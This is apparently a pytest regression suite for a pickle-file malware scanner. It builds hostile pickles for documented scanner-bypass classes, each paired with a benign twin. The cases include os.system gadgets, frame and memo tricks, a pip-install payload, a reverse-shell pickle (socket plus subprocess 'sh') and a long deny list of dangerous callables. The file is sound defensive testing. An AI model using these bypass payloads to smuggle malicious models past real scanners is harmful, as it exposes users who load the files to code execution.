"""One regression test per pickle-level bypass class of the scanner research (section 2).

Each case cites its advisory or source and has a benign twin that must pass
(``safe``, or ``unknown`` where the twin legitimately imports a user class).
Payloads are harmless (they would only create a marker file); nothing here is
ever unpickled: ``test_no_fixture_runs_anything`` scans them all and checks that
the marker never appears.
"""

from __future__ import annotations

import pickle
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.factories.pickle_builder import (
    MALICIOUS_FIXTURES,
    PickleBuilder,
    benign_state_dict,
    global_call,
    os_system,
    shell_marker,
    stack_global_call,
)
from trainguard.core.findings import Verdict
from trainguard.scan.picklevm import analyze_pickle, analyze_pickle_stream

MARKER = Path("/nonexistent-trainguard-marker/ran")
CMD = shell_marker(MARKER)


def verdict_of(data: bytes) -> Verdict:
    """Scan as the file scanner would: every pickle of the stream."""
    return analyze_pickle_stream(data).verdict


def _b() -> PickleBuilder:
    return PickleBuilder()


# (case id, malicious bytes, benign twin bytes, expected twin verdict)
Case = tuple[str, Callable[[], bytes], Callable[[], bytes], Verdict]

CASES: list[Case] = [
    # B01 CVE-2025-1716: pip.main installs a package whose build hooks run code.
    (
        "B01-pip-main",
        lambda: global_call("pip", "main", "install", "evil-pkg"),
        benign_state_dict,
        Verdict.SAFE,
    ),
    # B02/B06 CVE-2025-1889 / CVE-2025-10155: a protocol-0 pickle with no PROTO magic,
    # and an asyncio payload in a plain pickle named .bin. We route by content only.
    (
        "B02-proto0-no-magic",
        lambda: _b().global_("os", "system").mark().string(CMD).tuple().reduce().stop().build(),
        lambda: pickle.dumps({"a": [1, 2]}, protocol=0),
        Verdict.SAFE,
    ),
    # B05 nullifAI (ReversingLabs, Feb 2025): payload first, stream broken right after.
    (
        "B05-broken-after-payload",
        lambda: os_system(MARKER)[:-1] + b"\x00\xff broken",
        lambda: benign_state_dict()[:-1] + b"\x00\xff broken",
        Verdict.ERROR,
    ),
    # B08 CVE-2025-10157 / GHSA-f7qq-56ww-84cr: submodule of a denied package.
    (
        "B08-asyncio-submodule",
        lambda: stack_global_call("asyncio.unix_events", "_UnixSubprocessTransport._start"),
        lambda: stack_global_call("collections", "OrderedDict"),
        Verdict.SAFE,
    ),
    # B09 GHSA-9gvj-pp9x-gcfr: STACK_GLOBAL operands as protocol-0 STRING at index 0.
    (
        "B09-stack-global-string-operands",
        lambda: (
            _b()
            .string("os")
            .string("system")
            .stack_global()
            .string(CMD)
            .tuple1()
            .reduce()
            .stop()
            .build()
        ),
        lambda: (
            _b()
            .string("collections")
            .string("OrderedDict")
            .stack_global()
            .empty_tuple()
            .reduce()
            .stop()
            .build()
        ),
        Verdict.SAFE,
    ),
    # B10 picklescan #52: GLOBAL os.system first, then STACK_GLOBAL from a never-memoized
    # BINGET (scanner KeyError).
    (
        "B10-invalid-memo-after-payload",
        lambda: (
            _b()
            .proto(4)
            .global_("os", "system")
            .pop()
            .binget(7)
            .binget(8)
            .stack_global()
            .stop()
            .build()
        ),
        lambda: (
            _b()
            .proto(4)
            .short_binunicode("collections")
            .memoize()
            .short_binunicode("OrderedDict")
            .memoize()
            .stack_global()
            .stop()
            .build()
        ),
        Verdict.SAFE,
    ),
    # B10 variant: a memoized int as STACK_GLOBAL operand (type confusion).
    (
        "B10-memo-int-operand",
        lambda: (
            _b()
            .proto(4)
            .global_("os", "system")
            .pop()
            .binint1(5)
            .memoize()
            .binget(0)
            .binget(0)
            .stack_global()
            .stop()
            .build()
        ),
        lambda: _b().proto(4).binint1(5).memoize().binget(0).tuple2().stop().build(),
        Verdict.SAFE,
    ),
    # B12 GHSA-vvpj-8cmc-gx39 "universal bypass": pkgutil.resolve_name("os:system").
    (
        "B12-pkgutil-resolve-name",
        lambda: MALICIOUS_FIXTURES["pkgutil.resolve_name"](MARKER),
        lambda: global_call("mypkg.registry", "lookup", "model:Net"),
        Verdict.UNKNOWN,
    ),
    # B12 same class: importlib.import_module("os") + inspect.getattr_static(m, "system").
    (
        "B12-import-module-getattr-static",
        lambda: (
            _b()
            .proto(2)
            .global_("inspect", "getattr_static")
            .mark()
            .call("importlib", "import_module", "os")
            .binunicode("system")
            .tuple()
            .reduce()
            .stop()
            .build()
        ),
        lambda: global_call("mypkg.loader", "by_name", "Net"),
        Verdict.UNKNOWN,
    ),
    # B12 marshal.loads + types.FunctionType (picklescan PR #74, fickling GHSA-565g).
    (
        "B12-marshal-function",
        lambda: (
            _b()
            .proto(2)
            .global_("types", "FunctionType")
            .mark()
            .call("marshal", "loads", b"\xe3code")
            .empty_dict()
            .tuple()
            .reduce()
            .stop()
            .build()
        ),
        benign_state_dict,
        Verdict.SAFE,
    ),
    # B13 GHSA-97f8-7cmv-76j2: legacy magic-number pickle produced by eval().
    (
        "B13-legacy-magic-by-eval",
        lambda: (
            global_call("builtins", "eval", "0x1950A86A20F9469CFC6C")
            + pickle.dumps(1001, protocol=2)
            + pickle.dumps({"protocol_version": 1001}, protocol=2)
        ),
        lambda: (
            pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
            + pickle.dumps(1001, protocol=2)
            + pickle.dumps({"protocol_version": 1001}, protocol=2)
        ),
        Verdict.SAFE,
    ),
    # B14 GHSA-mxhj-88fx-4pcv: OBJ result dropped by POP (fickling lost the call).
    (
        "B14-obj-then-pop",
        lambda: (
            _b()
            .proto(4)
            .mark()
            .stack_global("smtplib", "SMTP")
            .short_binunicode("127.0.0.1")
            .obj()
            .pop()
            .none()
            .stop()
            .build()
        ),
        lambda: (
            _b()
            .proto(4)
            .mark()
            .stack_global("collections", "OrderedDict")
            .obj()
            .pop()
            .none()
            .stop()
            .build()
        ),
        Verdict.SAFE,
    ),
    # B16 GHSA-5j3x-jp52-966f: dotted STACK_GLOBAL name walks into os.
    (
        "B16-dotted-pathlib-os-system",
        lambda: stack_global_call("pathlib", "os.system", CMD),
        lambda: stack_global_call("mypkg.models", "Outer.Inner"),
        Verdict.UNKNOWN,
    ),
    (
        "B16-dotted-torch-os-system",
        lambda: stack_global_call("torch", "os.system", CMD),
        lambda: stack_global_call("torch", "Size"),
        Verdict.SAFE,
    ),
    (
        "B16-dunder-globals-walk",
        lambda: stack_global_call("torch.nn", "Module.__reduce__.__globals__"),
        lambda: stack_global_call("torch.nn.modules.linear", "Linear"),
        Verdict.UNKNOWN,
    ),
    # B18 python/cpython#154848, fickling #317: FRAME-boundary differential.
    (
        "B18-frame-straddle",
        lambda: (
            _b()
            .proto(4)
            .framed(b"B\x07\x01\x00\x00ab")
            .raw(b"cos\nsystem\n." + b"\0" * 0x200)
            .build()
        ),
        lambda: pickle.dumps({"x": list(range(50))}, protocol=4),
        Verdict.SAFE,
    ),
    (
        "B18-frame-in-frame",
        lambda: (
            _b().proto(4).frame(30).frame(3).raw(b"NN.").raw(b"cos\nsystem\n." + b"N" * 20).build()
        ),
        lambda: pickle.dumps([1, 2, 3], protocol=5),
        Verdict.SAFE,
    ),
    # B19 fickling denylist gaps: builtins.__import__ + getattr (GHSA-h4rm).
    (
        "B19-import-plus-getattr",
        lambda: (
            _b()
            .proto(2)
            .global_("builtins", "getattr")
            .mark()
            .call("builtins", "__import__", "os")
            .binunicode("system")
            .tuple()
            .reduce()
            .stop()
            .build()
        ),
        lambda: global_call("builtins", "set", proto=2),
        Verdict.SAFE,
    ),
    # B19: getattr(ctypes.CDLL(None), "system").
    (
        "B19-ctypes-cdll",
        lambda: global_call("ctypes", "CDLL", "libc.so.6"),
        lambda: global_call("builtins", "slice", 1, 2),
        Verdict.SAFE,
    ),
    # B20 modelscan #330: numpy-only globals, BUILD on the function numpy.size.
    (
        "B20-numpy-build-gadget",
        lambda: (
            _b()
            .proto(4)
            .stack_global("numpy", "size")
            .stack_global("numpy", "__builtins__")
            .pop()
            .empty_dict()
            .mark()
            .short_binunicode("shape")
            .empty_dict()
            .dict()
            .tuple2()
            .build_op()
            .stop()
            .build()
        ),
        lambda: pickle.dumps(
            (1, 2), protocol=4
        ),  # plain data; real numpy arrays are covered in test_picklevm_torch
        Verdict.SAFE,
    ),
    # B21 modelscan #338: gadgets seen in real HF malware.
    (
        "B21-collect-env-run",
        lambda: stack_global_call("torch.utils.collect_env", "run", CMD),
        lambda: stack_global_call("torch._utils", "_rebuild_parameter"),
        Verdict.SAFE,
    ),
    (
        "B21-pandas-read-csv",
        lambda: stack_global_call("pandas.io.parsers.readers", "read_csv", "https://x.invalid/"),
        lambda: stack_global_call("pandas.core.frame", "DataFrame"),
        Verdict.UNKNOWN,
    ),
    (
        "B21-mlflow-entry-point",
        lambda: stack_global_call("mlflow.projects.backend.local", "_run_entry_point", CMD),
        lambda: stack_global_call("mlflow.entities", "Run"),
        Verdict.UNKNOWN,
    ),
    # B22 modelscan #267: nested pickle.loads / _pickle.loads.
    (
        "B22-pickle-in-pickle",
        lambda: global_call("_pickle", "loads", b"\x80\x02N."),
        lambda: global_call("_codecs", "encode", "bytes", "latin1"),
        Verdict.SAFE,
    ),
    # B23 premature STOP / legacy blind spot (PickleBall): payload in a later pickle.
    (
        "B23-payload-in-later-pickle",
        lambda: pickle.dumps(1, protocol=2) * 3 + os_system(MARKER),
        lambda: pickle.dumps(1, protocol=2) * 4,
        Verdict.SAFE,
    ),
    # B32 exception-oriented programming: the scanner's parser raises where the
    # loader does not; here a bad opcode before the payload (salvage finds it).
    (
        "B32-eop-bad-opcode-then-payload",
        lambda: b"\x80\x02\xfe" + os_system(MARKER)[2:],
        lambda: b"\x80\x02\xfe" + benign_state_dict()[2:],
        Verdict.ERROR,
    ),
    # B34 Sleepy Pickle (Trail of Bits 2024): in-memory weight edit, no OS call.
    (
        "B34-sleepy-weight-edit",
        lambda: (
            _b()
            .proto(4)
            .stack_global("torch", "Tensor.add_")
            .mark()
            .raw(benign_state_dict()[2:-1])
            .binint1(1)
            .tuple()
            .reduce()
            .stop()
            .build()
        ),
        benign_state_dict,
        Verdict.SAFE,
    ),
    # B35 MalHug: reverse shell with socket + subprocess.
    (
        "B35-reverse-shell",
        lambda: (
            _b()
            .proto(2)
            .global_("socket", "create_connection")
            .mark()
            .binunicode("10.0.0.1")
            .binint(4444)
            .tuple2()
            .tuple1()
            .reduce()
            .pop()
            .call("subprocess", "call", "sh")
            .stop()
            .build()
        ),
        lambda: global_call("collections", "OrderedDict"),
        Verdict.SAFE,
    ),
]


@pytest.mark.parametrize(
    ("case", "malicious", "twin", "twin_verdict"), CASES, ids=[c[0] for c in CASES]
)
def test_bypass_class_is_caught_and_twin_passes(
    case: str, malicious: Callable[[], bytes], twin: Callable[[], bytes], twin_verdict: Verdict
) -> None:
    bad = verdict_of(malicious())
    if case == "B34-sleepy-weight-edit":
        # No OS call: only the per-callable allowlist stops it (never safe).
        assert bad is Verdict.UNKNOWN
    else:
        assert bad is Verdict.MALICIOUS, case
    assert verdict_of(twin()) is twin_verdict, case


# B11: the stream of denylist-gap GHSAs; every one must be malicious by itself.
B11_GADGETS = [
    ("torch.utils.bottleneck.__main__", "run_cprofile"),
    ("torch._dynamo.guards", "GuardBuilder.get"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"),
    ("torch.utils.collect_env", "run_and_read_all"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"),
    ("torch._inductor.codecache", "compile_file"),
    ("torch.utils._config_module", "ConfigModule.load_config"),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers"),
    ("torch.serialization", "load"),
    ("trace", "Trace.run"),
    ("profile", "run"),
    ("cProfile", "run"),
    ("lib2to3.pgen2.grammar", "Grammar.loads"),
    ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
    ("idlelib.run", "Executive.runcode"),
    ("idlelib.calltip", "get_entity"),
    ("code", "InteractiveInterpreter.runcode"),
    ("doctest", "debug_script"),
    ("ensurepip", "_run_pip"),
    ("timeit", "timeit"),
    ("venv", "create"),
    ("pydoc", "pipepager"),
    ("pydoc", "locate"),
    ("numpy.testing._private.utils", "runstring"),
    ("numpy.f2py.crackfortran", "getlincoef"),
    ("distutils.file_util", "write_file"),
    ("ctypes", "CDLL"),
    ("pty", "spawn"),
    ("operator", "methodcaller"),
    ("uuid", "_get_command_stdout"),
    ("_osx_support", "_read_output"),
    ("_osx_support", "_find_build_tool"),
    ("_aix_support", "_read_cmd_output"),
    ("imaplib", "IMAP4_stream"),
    ("_pyrepl.pager", "pipe_pager"),
    ("test.support.script_helper", "assert_python_ok"),
    ("logging", "FileHandler"),
    ("_io", "FileIO"),
    ("io", "FileIO"),
    ("urllib.request", "urlopen"),
    ("ssl", "get_server_certificate"),
    ("types", "CodeType"),
    ("cloudpickle.cloudpickle", "_make_function"),
    ("cloudpickle.cloudpickle", "subimport"),
    ("cloudpickle.cloudpickle", "_builtin_type"),
    ("runpy", "run_path"),
    ("multiprocessing.util", "spawnv_passfds"),
    ("smtplib", "SMTP"),
    ("ftplib", "FTP"),
    ("poplib", "POP3"),
    ("telnetlib", "Telnet"),
    ("nntplib", "NNTP"),
    ("_interpreters", "create"),
    ("_xxsubinterpreters", "create"),
    ("linecache", "getline"),
    ("difflib", "ndiff"),
    ("gc", "get_objects"),
    ("platform", "popen"),
    ("torch.hub", "load"),
    ("torch", "load"),
    ("numpy", "load"),
    ("joblib", "load"),
    ("dill", "loads"),
    ("sys", "modules"),
    ("builtins", "__builtins__"),
    ("webbrowser", "open"),
    ("shutil", "rmtree"),
    ("signal", "raise_signal"),
    ("tempfile", "mkstemp"),
    ("asyncio.subprocess", "create_subprocess_shell"),
    ("pathlib", "Path.write_text"),
    ("bdb", "Bdb.run"),
    ("pdb", "run"),
    ("mailcap", "findmatch"),
    ("codeop", "compile_command"),
    ("zipimport", "zipimporter"),
]


@pytest.mark.parametrize(("module", "name"), B11_GADGETS, ids=[".".join(g) for g in B11_GADGETS])
def test_b11_gadget_stream(module: str, name: str) -> None:
    # picklescan GHSAs 2025-08..2026-07 (B11), fickling B19, modelscan B21.
    for data in (stack_global_call(module, name, CMD), global_call(module, name, CMD)):
        result = analyze_pickle(data)
        assert result.verdict is Verdict.MALICIOUS, (module, name, result.findings)


def test_functools_partial_of_torch_load_is_malicious() -> None:
    # B11: functools.partial(torch.load, other_file, weights_only=False).
    b = _b().proto(4).stack_global("functools", "partial").stack_global("torch", "load")
    b.short_binunicode("other.pt").tuple2().empty_dict().newobj_ex().stop()
    assert verdict_of(b.build()) is Verdict.MALICIOUS
    twin = _b().proto(4).stack_global("functools", "partial").stack_global("builtins", "set")
    twin.tuple1().empty_dict().newobj_ex().stop()
    assert verdict_of(twin.build()) is Verdict.UNKNOWN


def test_methodcaller_on_pydoc_locate() -> None:
    # B11: operator.methodcaller("system")(pydoc.locate("os")).
    b = _b().proto(2).call("operator", "methodcaller", "system", CMD).mark()
    b.call("pydoc", "locate", "os").tuple().reduce().stop()
    result = analyze_pickle(b.build())
    assert result.verdict is Verdict.MALICIOUS
    assert {"operator.methodcaller", "pydoc.locate"} <= {g.qualified for g in result.globals}


def test_resolve_name_target_is_named() -> None:
    # B12: the string argument is resolved so the report names os.system itself.
    result = analyze_pickle(MALICIOUS_FIXTURES["pkgutil.resolve_name"](MARKER))
    derived = [g for g in result.globals if g.via == "pkgutil.resolve_name"]
    assert [g.qualified for g in derived] == ["os.system"]


@pytest.mark.parametrize("container", ["file", "zip member"])
def test_protocol0_call_without_stop_is_caught(container: str) -> None:
    # pickle.loads runs the REDUCE before it hits the missing STOP ("Ran out of input"),
    # so a STOP-less text pickle is a payload, not text; its benign twin is plain text.
    import io
    import zipfile

    from trainguard.scan import scan_bytes

    def wrap(data: bytes) -> bytes:
        if container == "file":
            return data
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("notes.txt", data)
        return out.getvalue()

    payload = b"cposix\nsystem\n(S'true'\ntR"
    assert scan_bytes(wrap(payload)).verdict is Verdict.MALICIOUS
    assert scan_bytes(wrap(b"cos or not\nsystem text\n")).verdict is Verdict.SAFE


def test_legacy_stack_payload_after_five_pickles_is_seen() -> None:
    # B23: ModelScan scans only the first (magic) pickle of the legacy format.
    stack = b"".join(pickle.dumps(v, protocol=2) for v in (1, 1001, {}, {"w": 1}, ["0"]))
    assert analyze_pickle_stream(stack).verdict is Verdict.SAFE
    stack_bad = stack + os_system(MARKER)
    assert analyze_pickle_stream(stack_bad, max_pickles=5).verdict is not Verdict.SAFE
    assert analyze_pickle_stream(stack_bad).verdict is Verdict.MALICIOUS


def test_no_fixture_runs_anything(tmp_path: Path) -> None:
    """Scan every malicious fixture; the marker it would create must never appear."""
    marker = tmp_path / "marker"
    seen = 0
    for name, factory in MALICIOUS_FIXTURES.items():
        data = factory(marker)
        assert verdict_of(data) is Verdict.MALICIOUS, name
        seen += 1
    for _, malicious, _, _ in CASES:
        verdict_of(malicious())
        seen += 1
    assert seen > 30
    assert not marker.exists()
    assert not MARKER.exists()
